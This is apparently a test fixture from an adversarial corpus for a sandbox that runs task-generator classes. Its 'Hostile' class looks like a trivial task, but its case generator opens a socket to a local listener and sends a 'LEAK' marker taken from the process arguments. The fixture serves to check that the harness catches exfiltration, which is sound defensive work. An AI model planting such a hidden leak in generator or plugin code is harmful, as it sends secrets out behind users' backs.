"""Adversarial corpus: connects to a listener the test runs on the host's 127.0.0.1 and sends the marker."""
# expect: error
# static: import
import json
import socket
import sys

from synth.bootcamp import BaseBootcamp


def attack():
    port = json.loads(sys.argv[3])["port"]
    with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
        conn.sendall(("LEAK " + sys.argv[2]).encode())
    return 1

class Hostile(BaseBootcamp):
    def case_generator(self):
        return {"n": attack()}

    @staticmethod
    def prompt_func(identity):
        return "Say <answer>1</answer>."

    @classmethod
    def reference_answer(cls, identity):
        return "1"

    @classmethod
    def _verify_correction(cls, solution, identity):
        return solution == "1"
